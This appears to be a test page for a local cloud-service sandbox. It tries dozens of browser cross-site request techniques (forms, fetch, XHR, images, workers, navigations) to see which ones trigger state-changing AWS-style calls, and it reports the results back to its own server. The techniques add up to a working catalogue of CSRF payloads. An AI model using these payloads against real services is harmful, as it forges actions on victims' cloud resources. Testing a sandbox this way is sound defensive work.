// What a page can make a browser send to a server that is not its own. Every attempt is addressed to `place(name)`, a URL
// whose query holds the attempt's name, so that whoever receives it can count it.
"use strict";

const here = new URLSearchParams(location.search);
const origin = here.get("name");
const target = here.get("target");
const account = "123456789012";

// Enough for a sandbox without guards: credentials in the query, and an operation that leaves a trace.
function place(name, service = "ec2", path = "/") {
  const query = new URLSearchParams({
    "X-Amz-Credential": `${account}/try-${origin}-${name}/us-east-1/${service}/aws4_request`,
  });
  if (service === "ec2") {
    query.set("Version", "2016-11-15");
    query.set("Action", "CreateSecurityGroup");
    query.set("GroupName", `${origin}-${name}`);
    query.set("GroupDescription", "made by a page");
  }
  return `${target}${path}?${query}`;
}

const template = "Resources: {Mine: {Type: 'AWS::Logs::LogGroup', Properties: {LogGroupName: stolen}}}";
const stack = { Action: "CreateStack", Version: "2010-05-15", StackName: "mine", TemplateBody: template };

// The page hears of the ends of its attempts where the browser lets it; what it could read is reported to its own server.
function report(name, read) {
  const query = new URLSearchParams({ name: `${origin}-${name}`, read: String(read).slice(0, 200) });
  navigator.sendBeacon(`/attack/report?${query}`);
}

function add(tag, members, parent = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(members)) element.setAttribute(name, value);
  parent.append(element);
  return element;
}

function form(name, method, enctype, fields, url) {
  const frame = `frame-${name}`;
  add("iframe", { name: frame });
  const made = add("form", { method, enctype, action: url, target: frame });
  for (const [field, value] of Object.entries(fields)) add("input", { type: "hidden", name: field, value }, made);
  made.submit();
}

async function ask(name, url, options) {
  try {
    const answer = await fetch(url, options);
    report(name, answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`);
  } catch (error) {
    report(name, error);
  }
}

function xhr(name, method, url, headers, body) {
  const request = new XMLHttpRequest();
  request.onloadend = () => report(name, request.status ? `${request.status} ${request.responseText}` : "error");
  request.open(method, url);
  for (const [header, value] of Object.entries(headers)) request.setRequestHeader(header, value);
  request.send(body);
}

// A page of its own, because the attempt replaces it.
function navigate(name) {
  const query = new URLSearchParams({ kind: name, name: origin, target });
  window.open(`/attack/navigate?${query}`);
}

const attempts = {
  "img": (name) => add("img", { src: place(name) }),
  "img-without-referrer": (name) => add("img", { referrerpolicy: "no-referrer", src: place(name) }),
  "img-with-cors": (name) => add("img", { crossorigin: "use-credentials", src: place(name) }),
  "svg-image": (name) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", place(name));
    svg.append(image);
    document.body.append(svg);
  },
  "script": (name) => add("script", { src: place(name) }),
  "module": (name) => add("script", { type: "module", src: place(name) }),
  "stylesheet": (name) => add("link", { rel: "stylesheet", href: place(name) }),
  "css-import": (name) => (add("style", {}).textContent = `@import url("${place(name)}");`),
  "css-background": (name) => add("div", { style: `width: 9px; height: 9px; background: url("${place(name)}")` }),
  "font": (name) => {
    add("style", {}).textContent = `@font-face { font-family: f; src: url("${place(name)}"); }`;
    add("p", { style: "font-family: f" }).textContent = "text";
  },
  "iframe": (name) => add("iframe", { src: place(name) }),
  "iframe-sandboxed": (name) => add("iframe", { sandbox: "", src: place(name) }),
  "object": (name) => add("object", { data: place(name) }),
  "embed": (name) => add("embed", { src: place(name) }),
  "video": (name) => add("video", { preload: "auto", src: place(name) }),
  "audio": (name) => add("audio", { preload: "auto", src: place(name) }),
  "preload": (name) => add("link", { rel: "preload", as: "image", href: place(name) }),
  "prefetch": (name) => add("link", { rel: "prefetch", href: place(name) }),
  "form-get": (name) => {
    const url = new URL(place(name));
    form(name, "get", "application/x-www-form-urlencoded", Object.fromEntries(url.searchParams), url);
  },
  "form-post": (name) => form(name, "post", "application/x-www-form-urlencoded", {}, place(name)),
  "form-stack": (name) =>
    form(name, "post", "application/x-www-form-urlencoded", stack, place(name, "cloudformation")),
  "form-multipart": (name) => form(name, "post", "multipart/form-data", { a: "b" }, place(name)),
  "form-text": (name) => form(name, "post", "text/plain", {}, place(name)),
  "form-sandboxed": (name) => {
    // The origin of such a frame is `null`.
    const page = `<form method=post action="${place(name).replaceAll("&", "&amp;")}"></form><script>document.forms[0].submit()</script>`;
    add("iframe", { sandbox: "allow-scripts allow-forms", srcdoc: page });
  },
  "form-bucket": (name) =>
    form(name, "post", "multipart/form-data", { key: "k", file: "x" }, place(name, "s3", `/${origin}-bucket`)),
  "fetch": (name) => ask(name, place(name)),
  "fetch-no-cors": (name) => ask(name, place(name), { mode: "no-cors" }),
  "fetch-without-referrer": (name) => ask(name, place(name), { mode: "no-cors", referrerPolicy: "no-referrer" }),
  "fetch-post": (name) => ask(name, place(name), { method: "POST", mode: "no-cors", body: new URLSearchParams() }),
  "fetch-post-text": (name) => ask(name, place(name), { method: "POST", mode: "no-cors", body: "" }),
  "fetch-credentials": (name) => ask(name, place(name), { credentials: "include" }),
  "fetch-keepalive": (name) => ask(name, place(name), { method: "POST", mode: "no-cors", keepalive: true, body: "" }),
  "fetch-json": (name) =>
    ask(name, place(name, "config"), {
      method: "POST",
      headers: { "content-type": "application/x-amz-json-1.1", "x-amz-target": "StarlingDoveService.PutRetentionConfiguration" },
      body: '{"RetentionPeriodInDays": 30}',
    }),
  "fetch-authorization": (name) =>
    ask(name, place(name), {
      method: "POST",
      headers: { authorization: `AWS4-HMAC-SHA256 Credential=${account}/20260101/us-east-1/ec2/aws4_request, SignedHeaders=host, Signature=0` },
    }),
  "fetch-put": (name) => ask(name, place(name, "s3", `/${origin}-put`), { method: "PUT", body: "" }),
  "fetch-delete": (name) => ask(name, place(name, "s3", `/${origin}-delete`), { method: "DELETE" }),
  "fetch-inbox": (name) => ask(name, `${target}/_sandbox/inbox?account=${account}&to=try-${origin}-${name}`),
  "fetch-faults": (name) =>
    ask(name, `${target}/_sandbox/faults?name=try-${origin}-${name}`, {
      method: "POST",
      mode: "no-cors",
      body: '[{"service": "ec2", "operation": "DescribeRegions", "fault": "throttling"}]',
    }),
  "form-clock": (name) =>
    form(name, "post", "text/plain", {}, `${target}/_sandbox/clock/advance?seconds=86400&name=try-${origin}-${name}`),
  "xhr": (name) => xhr(name, "GET", place(name), {}),
  "xhr-post": (name) => xhr(name, "POST", place(name), { "content-type": "application/x-www-form-urlencoded" }, ""),
  "xhr-target": (name) => xhr(name, "POST", place(name, "config"), { "x-amz-target": "StarlingDoveService.PutConfigRule" }, "{}"),
  "event-source": (name) => (new EventSource(place(name)).onerror = (event) => event.target.close()),
  "websocket": (name) => new WebSocket(place(name).replace("http:", "ws:")),
  "beacon": (name) => navigator.sendBeacon(place(name), new URLSearchParams()),
  "worker-import": (name) => new Worker(`/attack/worker.js?${new URLSearchParams({ import: place(name) })}`),
  "worker-fetch": (name) => new Worker(`/attack/worker.js?${new URLSearchParams({ fetch: place(name) })}`),
  "ping": (name) => {
    const link = add("a", { ping: place(name), href: "#" });
    link.click();
  },
  "csp-report": (name) => add("iframe", { src: `/attack/csp?${new URLSearchParams({ report: place(name) })}` }),
  "link": navigate,
  "link-without-referrer": navigate,
  "location": navigate,
  "meta-refresh": navigate,
  "form-top": navigate,
  "window-open": (name) => window.open(place(name)),
};

// Only where the origin is one that browsers trust: `127.0.0.1` is, whatever listens there.
if (window.isSecureContext) {
  attempts["service-worker"] = (name) =>
    navigator.serviceWorker.register(`/attack/worker.js?${new URLSearchParams({ fetch: place(name) })}`);
}

const navigations = {
  "link": (url) => add("a", { href: url }).click(),
  "link-without-referrer": (url) => add("a", { rel: "noreferrer", href: url }).click(),
  "location": (url) => (location.href = url),
  "meta-refresh": (url) => add("meta", { "http-equiv": "refresh", content: `0; url=${url}` }, document.head),
  "form-top": (url) => add("form", { method: "post", action: url }).submit(),
};

if (location.pathname === "/attack/navigate") {
  const kind = here.get("kind");
  navigations[kind](place(kind));
} else {
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      attempt(name);
    } catch (error) {
      report(name, error);
    }
  }
}
